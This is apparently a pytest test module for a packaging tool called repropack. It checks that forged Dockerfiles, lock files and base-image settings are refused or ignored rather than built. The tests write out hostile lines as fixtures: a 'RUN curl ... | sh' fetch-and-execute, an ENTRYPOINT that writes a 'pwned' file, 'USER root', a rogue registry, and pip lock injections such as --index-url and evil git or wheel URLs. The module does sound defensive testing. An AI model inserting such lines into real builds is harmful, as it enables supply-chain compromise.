"""Nothing executable is taken from the package (issue 12, item 3): a hostile Dockerfile, lock or base image.

Each case starts from one honest package of the small study (exported once for the module) and forges
one support file, re-hashed consistently so the integrity check alone cannot catch it. A forged
Dockerfile is never built: the replay builds repropack's own rendering -- the very image an honest
package gets -- and says the packaged one differs. A lock that holds more than pins is refused by
``check`` and ``replay`` (exit 2, naming the line) before anything is built. The loopback listener
proves that no build or replay contacted an address the package names.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from repropack.config import DEFAULT_BASE_IMAGE, ReplaySettings
from repropack.environment.build_inputs import DOCKERFILE_DIFFERS
from repropack.export import export_project
from repropack.model import CauseKind, Verdict, layout
from repropack.replay import replay_package
from tests.conftest import forge_recorded_file, make_project
from tests.hostile.clikit import assert_refused, repropack

pytestmark = [pytest.mark.usefixtures("docker_engine")]


@pytest.fixture(scope="module")
def honest(tmp_path_factory) -> Path:
    """The small study's package, as export wrote it (a folder)."""
    root = tmp_path_factory.mktemp("honest")
    package = root / "pkg"
    export_project(make_project(root / "study"), package, {})
    return package


@pytest.fixture(scope="module")
def honest_image(honest, tmp_path_factory) -> str:
    """The image tag an honest replay of the package builds on (shared: the same lock, the same tag)."""
    result = replay_package(honest, ReplaySettings(record=tmp_path_factory.mktemp("rec") / "record"))
    assert result.verdict is Verdict.REPRODUCED, result.cause
    assert DOCKERFILE_DIFFERS not in result.drift
    return result.image


@pytest.fixture
def package(honest, tmp_path) -> Path:
    copy = tmp_path / "pkg"
    shutil.copytree(honest, copy)
    return copy


def _forge_dockerfile(package: Path, extra: str) -> None:
    text = (package / layout.DOCKERFILE).read_text()
    forge_recorded_file(package, layout.DOCKERFILE, (text + extra).encode())


def _replay_forged(package: Path, tmp_path: Path, outside, **options):
    record = tmp_path / "record"
    outside.__post_init__()  # the forged package is the test's input, not a write
    result = replay_package(package, ReplaySettings(record=record, **options))
    outside.assert_nothing_new(allowed=(record,))
    return result


def _assert_built_by_repropack(result, honest_image: str) -> None:
    assert result.verdict is Verdict.REPRODUCED, result.cause
    assert result.image == honest_image  # repropack's rendering of the facts: the honest package's image
    assert DOCKERFILE_DIFFERS in result.drift


# --- a forged Dockerfile is documentation, never built ---------------------------------------------


@pytest.mark.slow
def test_dockerfile_add_from_a_listener_is_not_built(package, tmp_path, outside, listener, honest_image):
    _forge_dockerfile(package, f"ADD {listener.url}/payload /opt/payload\n")
    result = _replay_forged(package, tmp_path, outside)
    _assert_built_by_repropack(result, honest_image)
    assert listener.contacts == []


@pytest.mark.slow
def test_dockerfile_networked_run_is_not_built(package, tmp_path, outside, listener, honest_image, docker_engine):
    _forge_dockerfile(package, f"RUN curl -fsS {listener.url}/x | sh; touch /opt/forged-run\n")
    result = _replay_forged(package, tmp_path, outside)
    _assert_built_by_repropack(result, honest_image)
    assert listener.contacts == []
    listing = docker_engine.containers.run(result.image_id, ["ls", "/opt"], remove=True, network_disabled=True)
    assert b"forged-run" not in listing


@pytest.mark.slow
def test_dockerfile_user_root_is_not_built(package, tmp_path, outside, honest_image, docker_engine):
    _forge_dockerfile(package, "USER root\n")
    result = _replay_forged(package, tmp_path, outside)
    _assert_built_by_repropack(result, honest_image)
    assert docker_engine.images.get(result.image_id).attrs["Config"]["User"] == "1000:1000"


@pytest.mark.slow
def test_dockerfile_entrypoint_never_runs(package, tmp_path, outside, honest_image, docker_engine):
    _forge_dockerfile(
        package, 'ENTRYPOINT ["/bin/sh", "-c", "echo pwned > /work/outputs/pwned.txt; exec \\"$@\\"", "--"]\n'
    )
    result = _replay_forged(package, tmp_path, outside)
    _assert_built_by_repropack(result, honest_image)
    assert not docker_engine.images.get(result.image_id).attrs["Config"].get("Entrypoint")
    assert "outputs/pwned.txt" not in {o.path for o in result.outputs}
    assert "outputs/pwned.txt" not in result.replayed


@pytest.mark.slow
def test_dockerfile_from_another_registry_is_never_pulled(package, tmp_path, outside, listener, honest_image):
    registry = listener.url.removeprefix("http://")
    text = (package / layout.DOCKERFILE).read_text().replace(f"FROM {DEFAULT_BASE_IMAGE}", f"FROM {registry}/x:1")
    assert f"FROM {registry}/x:1" in text
    forge_recorded_file(package, layout.DOCKERFILE, text.encode())
    result = _replay_forged(package, tmp_path, outside)
    _assert_built_by_repropack(result, honest_image)
    assert listener.contacts == []  # the engine would have asked the "registry" for the image


def test_recorded_base_image_on_another_registry_is_refused_not_pulled(package, tmp_path, outside, listener):
    registry = listener.url.removeprefix("http://")
    settings = json.loads((package / layout.SETTINGS).read_text())
    settings["base_image"] = {"value": f"{registry}/x:1", "source": "project"}  # as if the researcher chose it
    forge_recorded_file(package, layout.SETTINGS, json.dumps(settings).encode())
    outside.__post_init__()
    done = repropack("replay", package, "--record", tmp_path / "record")
    assert_refused(done, f"base image {registry}/x:1 is not on this engine and cannot be pulled here", code=3)
    assert listener.contacts == []
    outside.assert_nothing_new()


# --- a lock that holds more than pins is refused before anything is built -----------------------------


def _lock_cases(listener_url: str) -> dict[str, tuple[str, str]]:
    """case -> (the hostile line, what the refusal says about it)."""
    return {
        "index-url": (f"--index-url {listener_url}/simple", "option '--index-url'"),
        "trusted-host": ("--trusted-host 127.0.0.1", "option '--trusted-host'"),
        "extra-index-url": (f"--extra-index-url {listener_url}/simple", "option '--extra-index-url'"),
        "editable-vcs": (f"-e git+{listener_url}/evil.git#egg=evil", "option '-e'"),
        "direct-url": (f"evil @ {listener_url}/evil-1.0-py3-none-any.whl", "names a URL"),
        "path": ("./vendor/evil-1.0-py3-none-any.whl", "names a path"),
        "requirement-file": ("-r other.txt", "option '-r'"),
        "hash-option-smuggled": (f"six==1.16.0 --index-url={listener_url}/simple", "option '--index-url'"),
    }


LOCK_CASES = sorted(_lock_cases("http://x"))


def _forge_lock(package: Path, line: str) -> int:
    """Put ``line`` after the lock's header; returns its line number."""
    lines = (package / layout.LOCK).read_text().splitlines(keepends=True)
    at = next(i for i, text in enumerate(lines) if not text.startswith("#"))
    lines.insert(at, line + "\n")
    forge_recorded_file(package, layout.LOCK, "".join(lines).encode())
    return at + 1


@pytest.mark.parametrize("case", LOCK_CASES)
def test_hostile_lock_line_fails_check_with_exit_2_naming_the_line(case, package, outside, listener):
    line, says = _lock_cases(listener.url)[case]
    number = _forge_lock(package, line)
    outside.__post_init__()
    done = repropack("check", package)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode == 2, done.stdout + done.stderr
    problems = [p for p in done.stdout.splitlines() if p.startswith("lock: ")]
    assert len(problems) == 1, done.stdout
    assert f"{layout.LOCK} line {number}: " in problems[0] and says in problems[0]
    assert listener.contacts == []
    outside.assert_nothing_new()


@pytest.mark.parametrize("case", LOCK_CASES)
def test_hostile_lock_line_stops_replay_with_exit_2_before_any_build(case, package, tmp_path, outside, listener):
    line, says = _lock_cases(listener.url)[case]
    number = _forge_lock(package, line)
    outside.__post_init__()
    done = repropack("replay", package, "--record", tmp_path / "record", "--build-timeout", "60")
    assert_refused(done, "integrity check", f"{layout.LOCK} line {number}: ", says)
    assert listener.contacts == []
    outside.assert_nothing_new()  # no record either: nothing was built or run


# --- a build that runs past its limit is cancelled cleanly ---------------------------------------------

SLOW_BASE = "repropack-test/slow-python:h1"


@pytest.fixture
def slow_base(docker_engine):
    """The base image with a python3 that hangs: a build's first RUN (``python3 -m venv``) never ends."""
    import io

    dockerfile = (
        f"FROM {DEFAULT_BASE_IMAGE}\n"
        "RUN rm /usr/bin/python3 && printf '#!/bin/sh\\nexec sleep 3600\\n' > /usr/bin/python3 "
        "&& chmod 755 /usr/bin/python3\n"
    )
    image, _ = docker_engine.images.build(fileobj=io.BytesIO(dockerfile.encode()), tag=SLOW_BASE, rm=True, pull=False)
    yield image
    docker_engine.images.remove(SLOW_BASE, force=True)


@pytest.mark.slow
def test_build_past_its_time_limit_is_cancelled_and_leaves_nothing(
    package, tmp_path, outside, slow_base, docker_engine
):
    def children() -> set[str]:
        return {i.id for i in docker_engine.images.list(all=True) if i.attrs.get("Parent") == slow_base.id}

    before = children()  # a cache from an earlier run is not this build's
    result = _replay_forged(package, tmp_path, outside, base_image=SLOW_BASE, build_timeout=10)
    assert result.verdict is Verdict.FAILED
    assert result.cause.kind is CauseKind.BUILD_FAILED
    assert "build time limit of 10 s" in result.cause.detail and "--build-timeout" in result.cause.detail
    assert result.timings["build"] < 60
    # Neither the cancelled step's container nor an image it made is left on the engine.
    assert docker_engine.containers.list(all=True, filters={"ancestor": slow_base.id}) == []
    assert children() - before == set()


def test_a_build_time_limit_that_is_no_positive_number_is_refused(package):
    done = repropack("replay", package, "--build-timeout", "0")
    assert done.returncode == 2 and "--build-timeout" in done.stderr and "Traceback" not in done.stderr
